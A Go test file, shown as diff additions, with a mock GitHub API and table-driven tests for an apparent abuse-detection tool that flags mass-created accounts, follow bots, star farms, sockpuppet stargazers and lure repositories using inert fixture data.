+	if _, enabled, _ := New(client).CheckHistory(context.Background(), models.RepoData{}, "main"); enabled {
+		t.Fatal("CheckHistory() ran without HistoryCommits configured")
+	}
+}
+
+// mockGitHub is an in-memory github.GitHubAPI. Missing users return a not-found error.
+type mockGitHub struct {
+	users   map[string]time.Time
+	repos   map[string][]models.RepoMetrics
+	events  map[string]int
+	readmes map[string]string
+	trees   map[string][]string
+	files   map[string]string // keyed by owner/repo/path
+	// languages and topics are keyed by owner/repo.
+	languages map[string]map[string]int
+	topics    map[string][]string
+	releases  map[string][]models.ReleaseAsset
+	commits   map[string]int
+	// follows holds each user's follower and following counts.
+	follows map[string][2]int
+	// partial marks users whose repository and event listings stop after the first page.
+	partial map[string]bool
+	// messages lists each repo's commit messages, newest first.
+	messages map[string][]string
+	// dates lists each repo's commit author dates, newest first, alongside messages.
+	dates map[string][]time.Time
+	// stargazers lists each repo's stargazers and starred how many repos each account starred.
+	stargazers map[string][]string
+	starred    map[string]int
+	// avatars holds each user's avatar image.
+	avatars map[string][]byte
+	// orgs lists the accounts that are organizations.
+	orgs  map[string]bool
+	calls map[string]int
+}
+
+var _ github.GitHubAPI = (*mockGitHub)(nil)
+
+func (m *mockGitHub) record(method string) {
+	if m.calls == nil {
+		m.calls = map[string]int{}
+	}
+	m.calls[method]++
+}
+
+func (m *mockGitHub) GetLogger() *logger.Logger { return logger.New(false) }
+
+func (m *mockGitHub) SearchRepositories(ctx context.Context, query string, page, perPage int) (*models.SearchResult, error) {
+	m.record("SearchRepositories")
+	return &models.SearchResult{}, nil
+}
+
+func (m *mockGitHub) GetRepository(ctx context.Context, owner, repo string) (models.RepoItem, error) {
+	m.record("GetRepository")
+	return models.RepoItem{}, &github.APIError{StatusCode: http.StatusNotFound, Status: "404 Not Found"}
+}
+
+func (m *mockGitHub) GetUserInfo(ctx context.Context, username string) (models.UserInfo, error) {
+	m.record("GetUserInfo")
+	createdAt, ok := m.users[username]
+	if !ok {
+		return models.UserInfo{}, &github.APIError{StatusCode: http.StatusNotFound, Status: "404 Not Found"}
+	}
+	info := models.UserInfo{CreatedAt: createdAt, Type: models.OwnerTypeUser}
+	if m.orgs[username] {
+		info.Type = models.OwnerTypeOrganization
+	}
+	info.Followers, info.Following = m.follows[username][0], m.follows[username][1]
+	if _, ok := m.avatars[username]; ok {
+		info.AvatarURL = "https://avatars.example/" + username
+	}
+	return info, nil
+}
+
+func (m *mockGitHub) GetAvatar(ctx context.Context, avatarURL string) ([]byte, error) {
+	m.record("GetAvatar")
+	image, ok := m.avatars[strings.TrimPrefix(avatarURL, "https://avatars.example/")]
+	if !ok {
+		return nil, &github.APIError{StatusCode: http.StatusNotFound, Status: "404 Not Found"}
+	}
+	return image, nil
+}
+
+func (m *mockGitHub) GetUserRepositories(ctx context.Context, username string) ([]models.RepoMetrics, error) {
+	m.record("GetUserRepositories")
+	if m.partial[username] {
+		return m.repos[username], fmt.Errorf("%w: stopped at page 2: rate limited", github.ErrPartialResults)
+	}
+	return m.repos[username], nil
+}
+
+func (m *mockGitHub) GetUserContributions(ctx context.Context, username string) (int, error) {
+	m.record("GetUserContributions")
+	if m.partial[username] {
+		return m.events[username], fmt.Errorf("%w: stopped at page 2: rate limited", github.ErrPartialResults)
+	}
+	return m.events[username], nil
+}
+
+func (m *mockGitHub) GetRepoReadme(ctx context.Context, owner, repo string) (string, error) {
+	m.record("GetRepoReadme")
+	return m.readmes[owner+"/"+repo], nil
+}
+
+func (m *mockGitHub) GetRepoReadmes(ctx context.Context, owner string, repos []string) (map[string]string, error) {
+	m.record("GetRepoReadmes")
+	readmes := map[string]string{}
+	for _, repo := range repos {
+		readmes[repo] = m.readmes[owner+"/"+repo]
+	}
+	return readmes, nil
+}
+
+func (m *mockGitHub) GetRepoTree(ctx context.Context, owner, repo, branch string) ([]string, error) {
+	m.record("GetRepoTree")
+	return m.trees[owner+"/"+repo], nil
+}
+
+func (m *mockGitHub) GetRepoLanguages(ctx context.Context, owner, repo string) (map[string]int, error) {
+	m.record("GetRepoLanguages")
+	return m.languages[owner+"/"+repo], nil
+}
+
+func (m *mockGitHub) GetRepoTopics(ctx context.Context, owner, repo string) ([]string, error) {
+	m.record("GetRepoTopics")
+	return m.topics[owner+"/"+repo], nil
+}
+
+func (m *mockGitHub) GetFileContent(ctx context.Context, owner, repo, path, ref string) (string, error) {
+	m.record("GetFileContent")
+	return m.files[owner+"/"+repo+"/"+path], nil
+}
+
+func (m *mockGitHub) GetReleaseAssets(ctx context.Context, owner, repo string) ([]models.ReleaseAsset, error) {
+	m.record("GetReleaseAssets")
+	return m.releases[owner+"/"+repo], nil
+}
+
+func (m *mockGitHub) DownloadReleaseAsset(ctx context.Context, owner, repo string, assetID, maxBytes int64) (string, int64, error) {
+	m.record("DownloadReleaseAsset")
+	return "", 0, &github.APIError{StatusCode: http.StatusNotFound, Status: "404 Not Found"}
+}
+
+func (m *mockGitHub) ListCommits(ctx context.Context, owner, repo, branch string, limit int) ([]string, error) {
+	m.record("ListCommits")
+	var shas []string
+	for i := 0; i < min(m.commits[owner+"/"+repo], limit); i++ {
+		shas = append(shas, fmt.Sprintf("sha-%d", i))
+	}
+	return shas, nil
+}
+
+func (m *mockGitHub) GetRepoCommits(ctx context.Context, owner, repo, branch string, limit int) ([]models.Commit, error) {
+	m.record("GetRepoCommits")
+	messages, dates := m.messages[owner+"/"+repo], m.dates[owner+"/"+repo]
+	var commits []models.Commit
+	for i := 0; i < max(len(messages), len(dates)) && i < limit; i++ {
+		commit := models.Commit{SHA: fmt.Sprintf("sha-%d", i)}
+		if i < len(messages) {
+			commit.Message = messages[i]
+		}
+		if i < len(dates) {
+			commit.Date = dates[i]
+		}
+		commits = append(commits, commit)
+	}
+	return commits, nil
+}
+
+func (m *mockGitHub) GetCommitFiles(ctx context.Context, owner, repo, sha string) ([]models.CommitFile, error) {
+	m.record("GetCommitFiles")
+	return nil, nil
+}
+
+func (m *mockGitHub) GetStargazers(ctx context.Context, owner, repo string, limit int) ([]models.Stargazer, error) {
+	m.record("GetStargazers")
+	var stargazers []models.Stargazer
+	for _, login := range m.stargazers[owner+"/"+repo] {
+		if limit > 0 && len(stargazers) >= limit {
+			break
+		}
+		stargazers = append(stargazers, models.Stargazer{Login: login})
+	}
+	return stargazers, nil
+}
+
+func (m *mockGitHub) GetUserStarred(ctx context.Context, username string, limit int) (int, error) {
+	m.record("GetUserStarred")
+	count, ok := m.starred[username]
+	if !ok {
+		return 0, &github.APIError{StatusCode: http.StatusNotFound, Status: "404 Not Found"}
+	}
+	return min(count, limit), nil
+}
+
+func TestAnalyzeUserWithMockFlagsMassCreatedAccount(t *testing.T) {
+	var repos []models.RepoMetrics
+	for i := 0; i < 25; i++ {
+		repos = append(repos, models.RepoMetrics{Name: fmt.Sprintf("tool-%d", i), DiskUsage: 1, StargazerCount: 5})
+	}
+	mock := &mockGitHub{
+		users:  map[string]time.Time{"farmer": time.Now().Add(-48 * time.Hour), "veteran": time.Now().AddDate(-5, 0, 0)},
+		repos:  map[string][]models.RepoMetrics{"farmer": repos, "veteran": repos},
+		events: map[string]int{"farmer": 1, "veteran": 400},
+	}
+	a := New(mock)
+
+	farmer, err := a.AnalyzeUser(context.Background(), "farmer")
+	if err != nil {
+		t.Fatalf("AnalyzeUser(farmer) error = %v", err)
+	}
+	if !farmer.Suspicious || farmer.TotalStars != 125 || farmer.SuspiciousEmptyCount != 25 {
+		t.Fatalf("AnalyzeUser(farmer) = %+v, want suspicious with 125 stars", farmer)
+	}
+	veteran, err := a.AnalyzeUser(context.Background(), "veteran")
+	if err != nil || veteran.Suspicious {
+		t.Fatalf("AnalyzeUser(veteran) = %+v, %v, want established account cleared", veteran, err)
+	}
+	if _, err := a.AnalyzeUser(context.Background(), "ghost"); !github.IsNotFound(err) {
+		t.Fatalf("AnalyzeUser(ghost) error = %v, want not found", err)
+	}
+	if mock.calls["GetUserInfo"] != 3 {
+		t.Fatalf("GetUserInfo calls = %d, want 3", mock.calls["GetUserInfo"])
+	}
+}
+
+func TestAnalyzeUserFlagsFollowBotWithoutRepositories(t *testing.T) {
+	mock := &mockGitHub{
+		users:   map[string]time.Time{"follower": time.Now().Add(-72 * time.Hour), "lurker": time.Now().Add(-72 * time.Hour)},
+		follows: map[string][2]int{"follower": {1, 900}, "lurker": {4, 12}},
+	}
+	a := New(mock)
+
+	bot, err := a.AnalyzeUser(context.Background(), "follower")
+	if err != nil {
+		t.Fatalf("AnalyzeUser(follower) error = %v", err)
+	}
+	followRatio := slices.ContainsFunc(bot.HeuristicResults, func(result models.HeuristicResult) bool {
+		return result.Name == "FollowRatioHeuristic" && result.Flag
+	})
+	if !bot.Suspicious || !followRatio {
+		t.Fatalf("AnalyzeUser(follower) = %+v, want a repository-less follow bot flagged", bot)
+	}
+	lurker, err := a.AnalyzeUser(context.Background(), "lurker")
+	if err != nil || lurker.Suspicious {
+		t.Fatalf("AnalyzeUser(lurker) = %+v, %v, want an account without repositories cleared", lurker, err)
+	}
+}
+
+func TestAnalyzeUserContinuesWithPartialListings(t *testing.T) {
+	var repos []models.RepoMetrics
+	for i := 0; i < 25; i++ {
+		repos = append(repos, models.RepoMetrics{Name: fmt.Sprintf("tool-%d", i), DiskUsage: 1, StargazerCount: 5})
+	}
+	mock := &mockGitHub{
+		users:   map[string]time.Time{"farmer": time.Now().Add(-48 * time.Hour)},
+		repos:   map[string][]models.RepoMetrics{"farmer": repos},
+		events:  map[string]int{"farmer": 1},
+		partial: map[string]bool{"farmer": true},
+	}
+
+	result, err := New(mock).AnalyzeUser(context.Background(), "farmer")
+	if err != nil {
+		t.Fatalf("AnalyzeUser() error = %v, want partial listings analyzed", err)
+	}
+	if !result.Suspicious || result.TotalStars != 125 || result.Contributions != 1 {
+		t.Fatalf("AnalyzeUser() = %+v, want the partial repositories and events analyzed", result)
+	}
+}
+
+func TestEvidencePolicy(t *testing.T) {
+	spam := models.HeuristicResult{Category: "Spam Behavior", Name: "GeneratedPortfolioHeuristic", Flag: true}
+	young := models.HeuristicResult{Category: "Mass Repository Creation", Name: "NewHeuristic", Flag: true}
+	quiet := models.HeuristicResult{Category: "Mass Repository Creation", Name: "RecentHeuristic", Flag: false}
+	indicator := models.HeuristicResult{Category: "Malware", Name: "ExternalIndicatorHeuristic", Flag: true}
+	twoHeuristics := EvidencePolicy{MinHeuristics: 2}
+
+	tests := []struct {
+		name    string
+		policy  EvidencePolicy
+		results []models.HeuristicResult
+		want    bool
+	}{
+		{"default passes one flag", EvidencePolicy{}, []models.HeuristicResult{spam}, true},
+		{"nothing flagged", EvidencePolicy{}, []models.HeuristicResult{quiet}, false},
+		{"scored without flagging", EvidencePolicy{}, []models.HeuristicResult{{Name: "MildHeuristic", Score: 0.5}}, true},
+		{"one of two heuristics", twoHeuristics, []models.HeuristicResult{spam, quiet}, false},
+		{"same heuristic twice", twoHeuristics, []models.HeuristicResult{spam, spam}, false},
+		{"two heuristics", twoHeuristics, []models.HeuristicResult{spam, young}, true},
+		{"one high severity", twoHeuristics, []models.HeuristicResult{indicator}, true},
+		{"configured high severity", EvidencePolicy{MinHeuristics: 2, HighSeverityCategories: []string{"spam behavior"}}, []models.HeuristicResult{spam}, true},
+		{"high severity cleared", EvidencePolicy{MinHeuristics: 2, HighSeverityCategories: []string{}}, []models.HeuristicResult{indicator}, false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := tt.policy.Passes(tt.results); got != tt.want {
+				t.Fatalf("Passes() = %t, want %t", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestAnalyzeUserHoldsFlagsBelowEvidencePolicy(t *testing.T) {
+	var repos []models.RepoMetrics
+	for i := 0; i < 25; i++ {
+		repos = append(repos, models.RepoMetrics{Name: fmt.Sprintf("tool-%d", i), DiskUsage: 1, StargazerCount: 5})
+	}
+	mock := &mockGitHub{
+		users:  map[string]time.Time{"farmer": time.Now().Add(-48 * time.Hour)},
+		repos:  map[string][]models.RepoMetrics{"farmer": repos},
+		events: map[string]int{"farmer": 1},
+	}
+	a := NewWithOptions(mock, Options{Evidence: EvidencePolicy{MinHeuristics: 10}})
+
+	result, err := a.AnalyzeUser(context.Background(), "farmer")
+	if err != nil {
+		t.Fatalf("AnalyzeUser() error = %v", err)
+	}
+	if result.Suspicious || !result.InsufficientEvidence {
+		t.Fatalf("AnalyzeUser() suspicious=%t insufficient=%t, want flags held below the policy", result.Suspicious, result.InsufficientEvidence)
+	}
+}
+
+func TestAnalyzeUserSamplesCommitCounts(t *testing.T) {
+	tests := []struct {
+		name         string
+		commits      []int // per repo; -1 marks an empty repo
+		sampleSize   int
+		wantSampled  int
+		wantFraction float64
+		wantFlag     bool
+	}{
+		{name: "every repo single commit", commits: []int{1, 1, 1, 1}, wantSampled: 4, wantFraction: 1, wantFlag: true},
+		{name: "initial import only", commits: []int{0, 1, 1}, wantSampled: 3, wantFraction: 1, wantFlag: true},
+		{name: "some real development", commits: []int{1, 5, 1, 30, 1}, wantSampled: 5, wantFraction: 0.6},
+		{name: "one developed repo of five", commits: []int{1, 1, 1, 1, 2}, wantSampled: 5, wantFraction: 0.8},
+		{name: "too few repos to judge", commits: []int{1, 1}, wantSampled: 2, wantFraction: 1},
+		{name: "empty repos are not sampled", commits: []int{-1, -1, 1, 1}, wantSampled: 2, wantFraction: 1},
+		{name: "sample is bounded", commits: []int{1, 1, 1, 1, 1, 1, 1, 1, 1, 1}, sampleSize: 3, wantSampled: 3, wantFraction: 1, wantFlag: true},
+		{name: "sampling disabled", commits: []int{1, 1, 1, 1}, sampleSize: -1},
+	}
+
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			mock := &mockGitHub{
+				users:   map[string]time.Time{"owner": time.Now().Add(-48 * time.Hour)},
+				repos:   map[string][]models.RepoMetrics{},
+				commits: map[string]int{},
+			}
+			for i, count := range tc.commits {
+				name := fmt.Sprintf("repo%d", i)
+				disk := 100
+				if count < 0 {
+					disk = 0
+				}
+				mock.repos["owner"] = append(mock.repos["owner"], models.RepoMetrics{Name: name, DiskUsage: disk})
+				mock.commits["owner/"+name] = count
+			}
+			a := NewWithOptions(mock, Options{CommitSampleSize: tc.sampleSize})
+
+			result, err := a.AnalyzeUser(context.Background(), "owner")
+			if err != nil {
+				t.Fatalf("AnalyzeUser() error = %v", err)
+			}
+			if result.CommitSampled != tc.wantSampled || result.SingleCommitFraction != tc.wantFraction {
+				t.Fatalf("AnalyzeUser() sampled %d with fraction %v, want %d and %v",
+					result.CommitSampled, result.SingleCommitFraction, tc.wantSampled, tc.wantFraction)
+			}
+			if mock.calls["ListCommits"] != tc.wantSampled {
+				t.Fatalf("ListCommits calls = %d, want %d", mock.calls["ListCommits"], tc.wantSampled)
+			}
+			flagged := false
+			for _, heuristic := range result.HeuristicResults {
+				if heuristic.Name == "SingleCommitHeuristic" {
+					flagged = heuristic.Flag
+				}
+			}
+			if flagged != tc.wantFlag {
+				t.Fatalf("SingleCommitHeuristic flag = %v, want %v", flagged, tc.wantFlag)
+			}
+		})
+	}
+}
+
+func TestCheckLoneStargazers(t *testing.T) {
+	// starredCounts gives each stargazer's starred-repo count; -1 marks an account that cannot be listed.
+	tests := []struct {
+		name          string
+		starredCounts []int
+		stars         int
+		sampleSize    int
+		wantEnabled   bool
+		wantFraction  float64
+		wantFlag      bool
+		wantLookups   int
+	}{
+		{name: "sockpuppets only", starredCounts: []int{1, 1, 1, 1, 1, 1, 1, 1}, wantEnabled: true, wantFraction: 1, wantFlag: true, wantLookups: 8},
+		{name: "at the threshold", starredCounts: []int{1, 1, 1, 1, 1, 1, 40, 3, 12, 2}, wantEnabled: true, wantFraction: 0.6, wantFlag: true, wantLookups: 10},
+		{name: "below the threshold", starredCounts: []int{1, 1, 1, 1, 1, 9, 40, 3, 12, 2}, wantEnabled: true, wantFraction: 0.5, wantLookups: 10},
+		{name: "organic stargazers", starredCounts: []int{250, 14, 3, 87, 2, 30}, wantEnabled: true, wantFraction: 0, wantLookups: 6},
+		{name: "starred nothing at all", starredCounts: []int{0, 0, 0, 0, 0}, wantEnabled: true, wantFraction: 1, wantFlag: true, wantLookups: 5},
+		{name: "unlisted accounts leave too small a sample", starredCounts: []int{1, 1, 1, 1, -1, -1}, wantEnabled: true, wantFraction: 1, wantLookups: 6},
+		{name: "sample is bounded", starredCounts: []int{1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1}, sampleSize: 5, wantEnabled: true, wantFraction: 1, wantFlag: true, wantLookups: 5},
+		{name: "too few stars to sample", starredCounts: []int{1, 1, 1}, stars: 3},
+		{name: "check disabled", starredCounts: []int{1, 1, 1, 1, 1}, sampleSize: -1},
+	}
+
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			mock := &mockGitHub{stargazers: map[string][]string{}, starred: map[string]int{}}
+			for i, count := range tc.starredCounts {
+				login := fmt.Sprintf("fan%d", i)
+				mock.stargazers["owner/repo"] = append(mock.stargazers["owner/repo"], login)
+				if count >= 0 {
+					mock.starred[login] = count
+				}
+			}
+			sampleSize := tc.sampleSize
+			switch {
+			case sampleSize == 0:
+				sampleSize = 20
+			case sampleSize < 0:
+				sampleSize = 0
+			}
+			stars := tc.stars
+			if stars == 0 {
+				stars = len(tc.starredCounts)
+			}
+			a := NewWithOptions(mock, Options{StargazerSampleSize: sampleSize})
+
+			repo := models.RepoData{Owner: "owner", Name: "repo", StargazerCount: stars}
+			result, fraction, enabled, err := a.CheckLoneStargazers(context.Background(), repo)
+			if err != nil {
+				t.Fatalf("CheckLoneStargazers() error = %v", err)
+			}
+			if enabled != tc.wantEnabled || fraction != tc.wantFraction || result.Flag != tc.wantFlag {
+				t.Fatalf("CheckLoneStargazers() = flag %v, fraction %v, enabled %v, want %v, %v, %v",
+					result.Flag, fraction, enabled, tc.wantFlag, tc.wantFraction, tc.wantEnabled)
+			}
+			if mock.calls["GetUserStarred"] != tc.wantLookups {
+				t.Fatalf("GetUserStarred calls = %d, want %d", mock.calls["GetUserStarred"], tc.wantLookups)
+			}
+		})
+	}
+}
+
+func TestCheckStarFarm(t *testing.T) {
+	// ageDays gives each stargazer's account age in days; -1 marks an account that cannot be looked up.
+	tests := []struct {
+		name        string
+		ageDays     []int
+		stars       int
+		diskUsage   int
+		flagged     bool
+		wantEnabled bool
+		wantFlag    bool
+		wantLookups int
+	}{
+		{name: "fresh accounts on an empty repo", ageDays: []int{1, 2, 0, 3, 1, 400, 2, 5, 1, 900}, diskUsage: 2, wantEnabled: true, wantFlag: true, wantLookups: 10},
+		{name: "established accounts", ageDays: []int{300, 2, 800, 45, 1200, 90, 3, 60, 30, 500}, diskUsage: 2, wantEnabled: true, wantLookups: 10},
+		{name: "median at the limit", ageDays: []int{7, 7, 7, 7, 7, 7, 7, 7, 7, 7}, diskUsage: 2, wantEnabled: true, wantLookups: 10},
+		{name: "unknown accounts leave too small a sample", ageDays: []int{1, 1, 1, 1, -1, -1, -1, -1, -1, -1}, diskUsage: 2, wantEnabled: true, wantLookups: 10},
+		{name: "sample is bounded", ageDays: make([]int, 45), diskUsage: 2, wantEnabled: true, wantFlag: true, wantLookups: DefaultStarFarmSampleSize},
+		{name: "flagged repo with content", ageDays: []int{1, 1, 1, 1, 1}, diskUsage: 5000, flagged: true, wantEnabled: true, wantFlag: true, wantLookups: 5},
+		{name: "unflagged repo with content", ageDays: []int{1, 1, 1, 1, 1, 1, 1, 1, 1, 1}, diskUsage: 5000},
+		{name: "too few stars", ageDays: []int{1, 1, 1, 1, 1, 1}, diskUsage: 2},
+	}
+
+	now := time.Now()
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			mock := &mockGitHub{users: map[string]time.Time{}, stargazers: map[string][]string{}}
+			for i, days := range tc.ageDays {
+				login := fmt.Sprintf("fan%d", i)
+				mock.stargazers["owner/repo"] = append(mock.stargazers["owner/repo"], login)
+				if days >= 0 {
+					mock.users[login] = now.Add(-time.Duration(days)*24*time.Hour - time.Hour)
+				}
+			}
+			stars := tc.stars
+			if stars == 0 {
+				stars = len(tc.ageDays)
+			}
+			a := NewWithOptions(mock, Options{StarFarmMinStars: DefaultStarFarmMinStars, CommitSampleSize: -1})
+
+			repo := models.RepoData{Owner: "owner", Name: "repo", StargazerCount: stars, DiskUsage: tc.diskUsage}
+			result, enabled, err := a.CheckStarFarm(context.Background(), repo, tc.flagged)
+			if err != nil {
+				t.Fatalf("CheckStarFarm() error = %v", err)
+			}
+			if enabled != tc.wantEnabled || result.Flag != tc.wantFlag {
+				t.Fatalf("CheckStarFarm() = flag %v, enabled %v (median %v), want %v, %v",
+					result.Flag, enabled, result.MedianAge, tc.wantFlag, tc.wantEnabled)
+			}
+			if mock.calls["GetUserInfo"] != tc.wantLookups {
+				t.Fatalf("GetUserInfo calls = %d, want %d", mock.calls["GetUserInfo"], tc.wantLookups)
+			}
+			if tc.wantFlag && len(result.Stargazers) != tc.wantLookups {
+				t.Fatalf("Stargazers = %d, want the %d sampled", len(result.Stargazers), tc.wantLookups)
+			}
+		})
+	}
+
+	if _, enabled, _ := New(&mockGitHub{}).CheckStarFarm(context.Background(), models.RepoData{StargazerCount: 50}, true); enabled {
+		t.Fatal("CheckStarFarm() enabled without StarFarmMinStars")
+	}
+}
+
+func TestCheckRepoFilesWithMock(t *testing.T) {
+	mock := &mockGitHub{
+		readmes:  map[string]string{"evil/cheat": "Download link below\npassword : 2025"},
+		trees:    map[string][]string{"evil/tool": {"src/main.go"}, "clean/lib": {"lib.go", "README.md"}},
+		releases: map[string][]models.ReleaseAsset{"evil/tool": {{Name: "loader.zip"}}},
+	}
+	a := New(mock)
+
+	for _, tc := range []struct {
+		owner, name string
+		want        bool
+	}{
+		{"evil", "cheat", true},
+		{"evil", "tool", true},
+		{"clean", "lib", false},
+	} {
+		_, results, err := a.CheckRepoFiles(context.Background(), tc.owner, tc.name, "main")
+		if err != nil || a.IsMalicious(results) != tc.want {
+			t.Fatalf("CheckRepoFiles(%s/%s) = %+v, %v, want malicious %v", tc.owner, tc.name, results, err, tc.want)
+		}
+		if len(results) != 3 {
+			t.Fatalf("CheckRepoFiles(%s/%s) = %d results, want one per checker", tc.owner, tc.name, len(results))
+		}
+	}
+	if mock.calls["GetReleaseAssets"] != 3 {
+		t.Fatalf("GetReleaseAssets calls = %d, want every checker run for every repo", mock.calls["GetReleaseAssets"])
+	}
+
+	mock.languages = map[string]map[string]int{"evil/tool": {"Go": 2048}}
+	mock.topics = map[string][]string{"evil/tool": {"free", "cheat"}}
+	repo, _, err := a.CheckRepoFiles(context.Background(), "evil", "tool", "main")
+	if err != nil || repo.Languages["Go"] != 2048 || len(repo.Topics) != 2 {
+		t.Fatalf("CheckRepoFiles(evil/tool) = languages %v, topics %v, %v", repo.Languages, repo.Topics, err)
+	}
+	if flags, err := a.EvaluateRepoHeuristics(context.Background(), repo); err != nil || !hasHeuristic(flags, "SingleLanguageHeuristic") {
+		t.Fatalf("EvaluateRepoHeuristics(evil/tool) = %+v, %v, want the single-language flag", flags, err)
+	}
+
+	calls := mock.calls["GetRepoLanguages"]
+	disabled := NewWithOptions(mock, Options{DisabledHeuristics: []string{"SingleLanguageHeuristic"}})
+	repo, _, err = disabled.CheckRepoFiles(context.Background(), "evil", "tool", "main")
+	if err != nil || repo.Languages != nil || len(repo.Topics) != 2 || mock.calls["GetRepoLanguages"] != calls {
+		t.Fatalf("CheckRepoFiles(evil/tool) = languages %v, topics %v, %v, want no languages request with SingleLanguageHeuristic disabled", repo.Languages, repo.Topics, err)
+	}
+	if flags, err := disabled.EvaluateRepoHeuristics(context.Background(), models.RepoData{TreeEntries: []string{"run.ps1"}, Languages: map[string]int{"PowerShell": 512}}); err != nil || hasHeuristic(flags, "SingleLanguageHeuristic") {
+		t.Fatalf("EvaluateRepoHeuristics() = %+v, %v, want no single-language flag when disabled", flags, err)
+	}
+}
+
+// hasHeuristic reports whether results hold a flag named name.
+func hasHeuristic(results []models.HeuristicResult, name string) bool {
+	for _, result := range results {
+		if result.Name == name && result.Flag {
+			return true
+		}
+	}
+	return false
+}
+
+// loginHeuristic flags one login.
+type loginHeuristic struct{ login string }
+
+func (h *loginHeuristic) Evaluate(data models.UserData, repos []models.RepoData) models.HeuristicResult {
+	return models.HeuristicResult{Category: "Custom", Name: "LoginHeuristic", Flag: data.Username == h.login}
+}
+
+// partialHeuristic contributes a weighted partial score without flagging.
+type partialHeuristic struct {
+	name          string
+	score, weight float64
+}
+
+func (h *partialHeuristic) Evaluate(data models.UserData, repos []models.RepoData) models.HeuristicResult {
+	return models.HeuristicResult{Category: "Custom", Name: h.name, Score: h.score, Weight: h.weight}
+}
+
+func TestAnalyzeUserSumsWeightedScores(t *testing.T) {
+	tests := []struct {
+		name       string
+		threshold  float64
+		suspicious bool
+	}{
+		{"default threshold", 0, true},
+		{"raised threshold", 2, false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			mock := &mockGitHub{
+				users: map[string]time.Time{"mallory": time.Now().Add(-365 * 24 * time.Hour)},
+				repos: map[string][]models.RepoMetrics{"mallory": {{Name: "notes", DiskUsage: 400}}},
+			}
+			a := NewWithOptions(mock, Options{CommitSampleSize: -1, UserScoreThreshold: tt.threshold})
+			a.RegisterUserHeuristic(&partialHeuristic{name: "MildHeuristic", score: 0.5})
+			a.RegisterUserHeuristic(&partialHeuristic{name: "WeightedHeuristic", score: 0.4, weight: 2})
+
+			result, err := a.AnalyzeUser(context.Background(), "mallory")
+			if err != nil {
+				t.Fatalf("AnalyzeUser() error = %v", err)
+			}
+			if math.Abs(result.TotalScore-1.3) > 1e-9 || result.Suspicious != tt.suspicious {
+				t.Fatalf("AnalyzeUser() score %.2f suspicious %t, want 1.30 and %t", result.TotalScore, result.Suspicious, tt.suspicious)
+			}
+			for _, heuristic := range result.HeuristicResults {
+				if heuristic.Weight == 0 || heuristic.Flag && heuristic.Score != 1 {
+					t.Fatalf("result %+v, want a default weight and flags scored as full matches", heuristic)
+				}
+			}
+		})
+	}
+}
+
+func TestAnalyzeUserAppliesConfiguredWeights(t *testing.T) {
+	mock := &mockGitHub{
+		users:   map[string]time.Time{"pasha769": time.Now().Add(-72 * time.Hour)},
+		events:  map[string]int{"pasha769": 12},
+		follows: map[string][2]int{"pasha769": {0, 150}},
+	}
+	tests := []struct {
+		name       string
+		weights    map[string]float64
+		score      float64
+		suspicious bool
+	}{
+		{"one near miss", map[string]float64{"UsernamePatternHeuristic": 0.1}, 0.55, false},
+		{"two near misses", nil, 1, true},
+		{"weighted near miss", map[string]float64{"followratioheuristic": 2}, 1.5, true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			a := NewWithOptions(mock, Options{CommitSampleSize: -1, HeuristicWeights: tt.weights})
+			result, err := a.AnalyzeUser(context.Background(), "pasha769")
+			if err != nil {
+				t.Fatalf("AnalyzeUser() error = %v", err)
+			}
+			if math.Abs(result.TotalScore-tt.score) > 1e-9 || result.Suspicious != tt.suspicious {
+				t.Fatalf("AnalyzeUser() score %.2f suspicious %t, want %.2f and %t", result.TotalScore, result.Suspicious, tt.score, tt.suspicious)
+			}
+		})
+	}
+}
+
+// markerChecker flags repositories whose README mentions a marker.
+type markerChecker struct{ marker string }
+
+func (c *markerChecker) Check(ctx context.Context, repo models.RepoData) (bool, error) {
+	return strings.Contains(repo.Readme, c.marker), nil
+}
+
+func TestRegisteredDetectorsRunAfterBuiltins(t *testing.T) {
+	mock := &mockGitHub{
+		users: map[string]time.Time{"mallory": time.Now().Add(-365 * 24 * time.Hour)},
+		repos: map[string][]models.RepoMetrics{"mallory": {{Name: "notes", DiskUsage: 400}}},
+	}
+	a := NewWithOptions(mock, Options{CommitSampleSize: -1})
+	a.RegisterUserHeuristic(&loginHeuristic{login: "mallory"})
+	a.RegisterRepoChecker(&markerChecker{marker: "campaign-7"})
+
+	result, err := a.AnalyzeUser(context.Background(), "mallory")
+	if err != nil {
+		t.Fatalf("AnalyzeUser() error = %v", err)
+	}
+	last := result.HeuristicResults[len(result.HeuristicResults)-1]
+	if last.Name != "LoginHeuristic" || !last.Flag || !result.Suspicious {
+		t.Fatalf("AnalyzeUser() = %+v, want the registered heuristic to flag the user", result)
+	}
+
+	results, err := a.CheckRepo(context.Background(), models.RepoData{Owner: "mallory", Name: "notes", Readme: "part of campaign-7"})
+	if err != nil {
+		t.Fatalf("CheckRepo() error = %v", err)
+	}
+	custom := results[len(results)-1]
+	if len(results) != 4 || custom.Name != "markerChecker" || !custom.Flagged || !a.IsMalicious(results) {
+		t.Fatalf("CheckRepo() = %+v, want the registered checker to flag the repo as malicious", results)
+	}
+}
+
+func TestRegistryEnablesAndDisablesByName(t *testing.T) {
+	if !IsRegistered("LoginHeuristic") {
+		Register(Registration{Name: "LoginHeuristic", Experimental: true, User: func(Options) UserHeuristic {
+			return &loginHeuristic{login: "mallory"}
+		}})
+	}
+	names := func(heuristics []UserHeuristic) []string {
+		var names []string
+		for _, h := range heuristics {
+			names = append(names, h.Evaluate(models.UserData{}, nil).Name)
+		}
+		return names
+	}
+
+	defaults := names(DefaultUserHeuristics(Options{}))
+	if slices.Contains(defaults, "LoginHeuristic") || !slices.Contains(defaults, "NewHeuristic") {
+		t.Fatalf("default heuristics = %v, want the built-ins without the experimental one", defaults)
+	}
+	enabled := names(DefaultUserHeuristics(Options{EnabledHeuristics: []string{"LoginHeuristic"}, DisabledHeuristics: []string{"newheuristic"}}))
+	if !slices.Contains(enabled, "LoginHeuristic") || slices.Contains(enabled, "NewHeuristic") || len(enabled) != len(defaults) {
+		t.Fatalf("configured heuristics = %v, want LoginHeuristic in place of NewHeuristic", enabled)
+	}
+
